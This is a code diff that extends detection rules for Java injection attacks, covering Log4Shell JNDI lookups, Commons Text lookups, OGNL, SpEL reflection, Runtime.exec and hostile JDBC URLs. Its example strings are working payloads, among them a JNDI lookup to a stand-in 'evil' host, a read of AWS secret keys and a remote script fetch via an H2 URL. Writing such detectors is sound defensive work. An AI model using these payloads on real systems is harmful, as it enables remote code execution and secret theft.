@@ -11,7 +11,7 @@ export const detector: Detector = {
   findings: [
     {
       id: "jndi", why: "A look-up in a directory is asked for, which loads foreign code (CVE-2021-44228).", over: "text", score: 8,
-      pattern: /jndi\s*:\s*(?:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?)\s*:|\$)|[$]\{?\s*\{?\s*jndi\b|%\{jndi:/i,
+      pattern: /jndi\s*:\s*(?:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?)\s*:|\$)|[$]\{?\s*\{?\s*jndi\s*[:$}]|%\{jndi:/i,
       examples: ["${jndi:ldap://evil/a}", "${::-$}{jndi:dns://x}", "$%7Bjndi:rmi://x}"],
       counterExamples: ["JNDI: a directory service", "jndi.properties"],
     },
@@ -22,26 +22,26 @@ export const detector: Detector = {
       counterExamples: ["${HOME}", "${1:-5}", "${VAR:-default}", "${lower}"],
     },
     {
-      id: "log-lookup", why: "A look-up of Log4j reads the machine's environment.", over: "text", score: 5,
-      pattern: /\$\{(?:env|sys|java|hostName|docker|k8s|spring|bundle|ctx|main|web|log4j|sd|jvmrunargs|marker|map|event|script):[\w.:\-/]+\}/i,
-      examples: ["${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${java:os}"],
+      id: "log-lookup", why: "A look-up of Log4j or Commons Text reads the machine's environment, asks a name server or runs a script (CVE-2022-42889).", over: "text", score: 5,
+      pattern: /\$\{(?:env|sys|java|hostName|docker|k8s|spring|bundle|ctx|main|web|log4j|sd|jvmrunargs|marker|map|event|script|dns|url|file|const|urlDecoder|xml|resourceBundle):[\w.:\-/|'"() ]+\}|\$\{(?:script|dns|url|file|urlDecoder|xml):[^\s}]{2}/i,
+      examples: ["${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${java:os}", "${dns:address|x.example}"],
       counterExamples: ["${env}", "${color:red}", "env: production"],
     },
     {
       id: "java-type", why: "An expression names a type of Java's runtime.", over: "text", score: 8,
-      pattern: /\bT\s*\(\s*(?:java|javax|org|com|sun|String|System|Runtime|Thread)\b|@java\.(?:lang|io|util|net)\.\w+@|new\s+java\.(?:lang\.ProcessBuilder|util\.Scanner|io\.(?:File\w*|BufferedReader))\b|new\s+javax\.script\.ScriptEngineManager/,
+      pattern: /\bT\s*\(\s*(?:java|javax|org|com|sun|String|System|Runtime|Thread)\b|@java\.(?:lang|io|util|net)\.\w+@|new\s+java\.(?:lang\.ProcessBuilder|util\.Scanner|io\.(?:File\w*|BufferedReader))\b|new\s+BufferedReader\s*\(\s*new\s+FileReader|\bJMXConfigurator\b|new\s+javax\.script\.ScriptEngineManager/,
       examples: ["${T(java.lang.Runtime).getRuntime().exec('id')}", "@java.lang.Runtime@getRuntime()", "new javax.script.ScriptEngineManager()"],
       counterExamples: ["import java.io.File;", "List<T> x", "java.lang.String"],
     },
     {
       id: "ognl", why: "An OGNL expression reaches for its context or its guard.", over: "text", score: 8,
-      pattern: /#_?memberAccess|#(?:context|session|request|application|attr|parameters|root|this)\s*\[\s*['"]|\(\s*#\w+\s*=\s*(?:@|new\b|\(|#|['"])|@ognl\.OgnlContext|#\w+\.(?:excludedClasses|getInstance|setExcluded\w+)|com\.opensymphony\.xwork2|(?:redirect|action|redirectAction)\s*:\s*[$%]\{|xwork\.MethodAccessor/,
+      pattern: /_memberAccess|#memberAccess|#(?:request|session|parameters|application)\.\w+[(\[]|#(?:context|session|request|application|attr|parameters|root|this)\s*\[\s*['"]|\(\s*#\w+\s*=\s*(?:@|new\b|\(|#|['"])|[%$]\{\s*\(\s*#\w+\s*=|@ognl\.OgnlContext|#\w+\.(?:excludedClasses|getInstance|setExcluded\w+)|com\.opensymphony\.xwork2|(?:redirect|action|redirectAction)\s*:\s*[$%]\{|xwork\.MethodAccessor/,
       examples: ["%{(#_memberAccess['allowStaticMethodAccess']=true)}", "(#a=@java.lang.Runtime@getRuntime())", "redirect:${#req}"],
       counterExamples: ["#context", "see action: {run}", "(#1 = first)"],
     },
     {
       id: "reflection", why: "An expression climbs from an object to its class to run code.", over: "text", score: 5,
-      pattern: /[$#%*]\{[^}\n]*(?:\.getClass\s*\(|\.class\b|\.forName\s*\(|getRuntime|ProcessBuilder|\.exec\s*\(|\.getDeclared|pageContext\b|applicationScope|servletContext|facesContext|sessionScope|\.loadClass)|(?:''|"")\s*\.\s*(?:getClass\s*\(|class\b)[^\n]*forName|\.getClass\(\)\s*\.\s*forName\s*\(/,
+      pattern: /[$#%*]\{[^}\n]*(?:\.getClass\s*\(|\.class\b|\.forName\s*\(|getRuntime|ProcessBuilder|\.exec\s*\(|\.getDeclared|pageContext\b|applicationScope|servletContext|facesContext|sessionScope|\.loadClass|^[#$]\{\s*(?:systemProperties|systemEnvironment)\b|(?:systemProperties|systemEnvironment)\[|@environment\.)|(?:''|"")\s*\.\s*GetType\s*\(\)\s*\.|(?:''|"")\s*\.\s*(?:getClass\s*\(|class\b)[^\n]*forName|\.getClass\(\)\s*\.\s*forName\s*\(/,
       examples: ["${''.getClass().forName('java.lang.Runtime')}", "#{applicationScope}", "%{1.getClass()}", "${pageContext.request}"],
       counterExamples: ["obj.getClass().getName()", "${className}", "#{id}"],
     },
@@ -52,10 +52,10 @@ export const detector: Detector = {
       counterExamples: ["class.name", "classModule"],
     },
     {
-      id: "runtime", why: "A command is run by Java's runtime.", over: "text", score: 5,
-      pattern: /getRuntime\s*\(\s*\)\s*\.\s*exec\s*\(|\bProcessBuilder\s*\([^\n]*\)\s*\.\s*start\s*\(|ScriptEngineManager[^\n]*\.eval\s*\(/,
-      examples: ["java.lang.Runtime.getRuntime().exec('id')", "new ProcessBuilder('id').start()"],
-      counterExamples: ["The process builder starts", "Runtime rt = Runtime.getRuntime();\nrt.exec(cmd);"],
+      id: "runtime", why: "A command is run, or foreign code loaded, by Java's runtime or a driver of it.", over: "text", score: 5,
+      pattern: /getRuntime\s*\(\s*\)\s*\.\s*exec\s*\(|\bProcessBuilder\s*\([^\n]*\)\s*\.\s*start\s*\(|ScriptEngineManager[^\n]*\.eval\s*\(|\$\$BCEL\$\$|\bClassPathXmlApplicationContext\b|\bFileSystemXmlApplicationContext\b|\bCamelExec\w+\s*:|<insertFromJNDI\b|\bjdbc:(?:h2:[^\n]*(?:init\s*=|runscript|trigger)|mysql:[^\n]*(?:autodeserialize|allowloadlocalinfile|queryinterceptors)|postgresql:[^\n]*(?:socketfactory|loggerfile|sslfactory)|db2:[^\n]*clientreroute|derby:[^\n]*slavehost|ibm:|oracle:[^\n]*ldap)|\]\s*\.\s*execute\s*\(\s*\)\s*\.\s*text|javax\.naming\.InitialContext|^\s*java\.lang\.\w+\.\w+\s*\(/i,
+      examples: ["java.lang.Runtime.getRuntime().exec('id')", "new ProcessBuilder('id').start()", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x'"],
+      counterExamples: ["The process builder starts", "jdbc:postgresql://db/orders", "Runtime rt = Runtime.getRuntime();\nrt.exec(cmd);"],
     },
     {
       id: "java-class", why: "The value, or a string in it, is the name of a class of Java's platform.", over: "text", score: 5,
